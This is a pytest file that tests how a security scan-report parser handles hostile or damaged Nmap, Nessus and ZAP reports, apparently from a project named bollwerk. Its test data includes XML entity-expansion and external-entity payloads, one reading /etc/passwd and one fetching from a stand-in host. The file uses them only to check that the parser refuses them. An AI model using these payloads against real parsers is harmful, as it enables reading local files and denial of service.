"""Reports made to fill memory or to read other files are refused with one sentence; damaged ones give what they can."""

from io import BytesIO

import pytest
from tests.engines.scan_reports.samples import NESSUS, NMAP, ZAP, read

from bollwerk.engines.scan_reports import (
    Format,
    HostileReportError,
    KeptReason,
    ReportError,
    UnreadableReportError,
    read_report,
)

LAUGHS = """<?xml version="1.0"?><!DOCTYPE nmaprun [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><nmaprun>&b;</nmaprun>"""
OUTSIDE = """<?xml version="1.0"?><!DOCTYPE nmaprun [<!ENTITY a SYSTEM "file:///etc/passwd">]><nmaprun>&a;</nmaprun>"""
PARAMETER = """<?xml version="1.0"?><!DOCTYPE nmaprun [<!ENTITY % a SYSTEM "http://evil.example/x"> %a;]><nmaprun/>"""


@pytest.mark.parametrize("text", [LAUGHS, OUTSIDE, PARAMETER, LAUGHS.encode("utf-16")])
@pytest.mark.parametrize("form", [None, Format.NMAP])
def test_xml_that_declares_entities_is_refused(text: str, form: Format | None) -> None:
    with pytest.raises(HostileReportError, match="entities"):
        read(text, form)


@pytest.mark.parametrize(("levels", "refused"), [(98, False), (99, True), (200_000, True)])
def test_a_hundred_levels_of_xml_are_enough(levels: int, refused: bool) -> None:
    text = "<OWASPZAPReport>" + "<a>" * levels + "<b/>" + "</a>" * levels + "</OWASPZAPReport>"
    if not refused:
        assert read(text).findings == ()
        return

    with pytest.raises(HostileReportError, match="deeper"):
        read(text)


def test_json_nested_without_end_is_refused() -> None:
    with pytest.raises(ReportError, match=r"deep|JSON"):
        read('{"runs":' + "[" * 100_000)


class _Long(BytesIO):
    """A file that says it is longer than any report."""

    def seek(self, offset: int, whence: int = 0) -> int:
        return super().seek(offset, whence) + (600 << 20 if whence else 0)


def test_a_file_of_more_than_the_limit_is_refused_before_it_is_read() -> None:
    with pytest.raises(HostileReportError, match="600 MB"):
        read_report(_Long(b"<nmaprun/>"))


def test_a_report_that_breaks_off_gives_what_it_has_and_says_so() -> None:
    report = read(NESSUS[: NESSUS.index('<ReportItem port="8443"')])

    assert len(report.findings) == 1
    assert not report.scope.complete
    assert report.kept_aside[-1].reason is KeptReason.BROKEN_OFF


def test_a_scan_of_nmap_without_its_closing_line_is_incomplete() -> None:
    assert read(NMAP).scope.complete
    assert not read(NMAP.replace('<runstats><finished exit="success"/></runstats>', "")).scope.complete


def test_xml_broken_before_the_first_finding_is_refused() -> None:
    with pytest.raises(UnreadableReportError, match="line"):
        read("<OWASPZAPReport><site", Format.ZAP)


def test_umlauts_of_another_encoding_than_the_declared_one_are_kept() -> None:
    text = ZAP.replace("CSP Header Not Set", "Kopfzeile für Übertragung fehlt").encode("cp1252")

    report = read(text)

    assert report.weaknesses[0].title == "Kopfzeile für Übertragung fehlt"


def test_control_characters_that_xml_forbids_do_not_stop_a_report() -> None:
    report = read(NESSUS.replace("version 1.0", "version \x0b 1.0 &#x1;"))

    assert len(report.findings) == 2
    assert "version" in report.findings[0].evidence


def test_a_report_said_to_be_of_another_format_gives_no_findings_or_is_refused() -> None:
    with pytest.raises(UnreadableReportError):
        read(NMAP, Format.SARIF)
